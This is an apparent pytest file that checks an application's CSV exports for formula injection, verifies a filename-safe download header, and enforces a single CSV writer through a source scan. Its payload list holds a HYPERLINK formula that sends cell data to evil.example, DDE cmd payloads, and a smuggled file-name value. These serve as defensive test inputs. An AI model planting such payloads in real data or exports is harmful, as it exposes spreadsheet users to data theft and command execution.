"""CSV formula injection: every export goes through one writer that quotes cells a
spreadsheet would run as formulas (a probe found them raw in the MCA export), and no other
module writes CSV."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from agreements import mca
from exports.spreadsheet import csv_text, download_headers, safe_cell
from persistence import db
from subscriptions import services
from subscriptions.models import Subscription
from tests.conftest import login, served
from tests.subscriptions.recorded_keys import record_test_key
from tests.test_architecture import ROOT, python_files

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝HYPERLINK(\"x\")", "＋1",
           "－1", "＠SUM(A1)"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_cell_a_spreadsheet_would_run_is_quoted(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("number", [-5, Decimal("-12.50"), 0, -0.25])
def test_numbers_we_emit_as_numbers_stay_numbers_even_when_negative(number):
    assert safe_cell(number) == number
    assert csv_text(["n"], [[number]]).splitlines()[1] == str(number)


def test_plain_text_and_empty_cells_are_left_alone():
    assert [safe_cell(v) for v in ("Alpha GmbH", "a-b", "", None, True)] == \
        ["Alpha GmbH", "a-b", "", "", "True"]


def test_a_download_names_the_csv_type_and_a_safe_file_name():
    assert download_headers("mca-ledger.csv") == {
        "Content-Type": "text/csv; charset=utf-8",
        "Content-Disposition": 'attachment; filename="mca-ledger.csv"'}
    with pytest.raises(ValueError, match="file name"):
        download_headers('x"; filename=evil.exe')


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def hostile_acceptance(world):
    """An acceptance whose every free-text field is a formula, as a signer could type it."""
    world.customer_a.company_name = ATTACKS[0]
    db.session.commit()
    return mca.record_acceptance(
        customer=world.customer_a, user=world.reseller_a_user,
        signer=mca.Signer(ATTACKS[1], ATTACKS[2], "@sum(1+1)@evil.example"),
        template_id=ATTACKS[6], version=ATTACKS[9], date_agreed=date(2026, 11, 23),
        ip="127.0.0.1")


def assert_neutralised(row: dict[str, str], acceptance) -> None:
    assert row["customer"] == "'" + ATTACKS[0]
    assert (row["signer_first_name"], row["signer_last_name"]) == \
        ("'" + ATTACKS[1], "'" + ATTACKS[2])
    assert row["signer_email"] == "'@sum(1+1)@evil.example"
    assert (row["template_id"], row["agreement_version"]) == \
        ("'" + ATTACKS[6], "'" + ATTACKS[9])
    assert row["id"] == str(acceptance.id)  # a number stays a number


def test_the_admin_mca_export_quotes_formula_cells(client, world):
    acceptance = hostile_acceptance(world)
    login(client, world.admin)
    response = served(client, "/admin/mca?format=csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="mca-ledger.csv"'
    [row] = parsed(response.get_data(as_text=True))
    assert_neutralised(row, acceptance)


def test_the_mca_export_command_quotes_formula_cells(app, world):
    acceptance = hostile_acceptance(world)
    result = app.test_cli_runner().invoke(args=["mca", "export"])
    assert result.exit_code == 0, result.output
    [row] = parsed(result.output)
    assert_neutralised(row, acceptance)


def test_the_key_log_export_quotes_formula_cells(client, world):
    world.customer_a.company_name = "＝HYPERLINK(\"http://evil.example\")"
    world.reseller_a_user.admin_agent = True
    sub = Subscription(customer=world.customer_a, reseller_id=world.reseller_a.id,
                       product=world.price.sku.product, title="@SUM(1+1)",
                       family="perpetual_software", billing_cycle="one_time", quantity=1,
                       status="active")
    db.session.add(sub)
    db.session.commit()
    record_test_key(sub)
    services.reveal_key(sub, world.reseller_a_user, "-2+3")
    login(client, world.admin)
    response = served(client, "/subscriptions/key-log?format=csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="key-log.csv"'
    [row] = parsed(response.get_data(as_text=True))
    assert (row["customer"], row["subscription"], row["ip"]) == (
        "'＝HYPERLINK(\"http://evil.example\")", "'@SUM(1+1)", "'-2+3")
    assert row["subscription_id"] == str(sub.id)


# Writing CSV anywhere but the one writer would bypass the policy; reading (price lists)
# is fine. tests/ and bench/ write Microsoft's own price-list format as input, not exports.
WRITER = ROOT / "exports" / "spreadsheet.py"
WRITING = {"writer", "DictWriter"}


def csv_writing(source: str) -> list[str]:
    """Where the source uses the stdlib csv module's writers (csv.writer, from csv import
    DictWriter, import csv as c; c.writer …)."""
    tree, aliases, found = ast.parse(source), set(), []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"line {node.lineno}: from csv import {a.name}" for a in node.names
                      if a.name in WRITING]
    for node in ast.walk(tree):
        if (isinstance(node, ast.Attribute) and node.attr in WRITING
                and isinstance(node.value, ast.Name) and node.value.id in aliases):
            found.append(f"line {node.lineno}: {node.value.id}.{node.attr}")
    return found


def test_the_scan_finds_every_way_of_reaching_the_csv_writers():
    assert csv_writing("import csv\ncsv.writer(x)\n") == ["line 2: csv.writer"]
    assert csv_writing("import csv as c\nc.DictWriter(x, [])\n") == ["line 2: c.DictWriter"]
    assert csv_writing("from csv import DictWriter\n") == ["line 1: from csv import DictWriter"]
    assert csv_writing("import csv\ncsv.reader(lines)\ncsv.DictReader(lines)\n") == []


def test_no_module_but_the_one_writer_writes_csv():
    offenders = {str(path.relative_to(ROOT)): found
                 for path in python_files(outside=("tests", "bench", "migrations"))
                 if path != WRITER
                 and (found := csv_writing(path.read_text(encoding="utf-8")))}
    assert offenders == {}
    assert csv_writing(Path(WRITER).read_text(encoding="utf-8"))  # the writer itself does
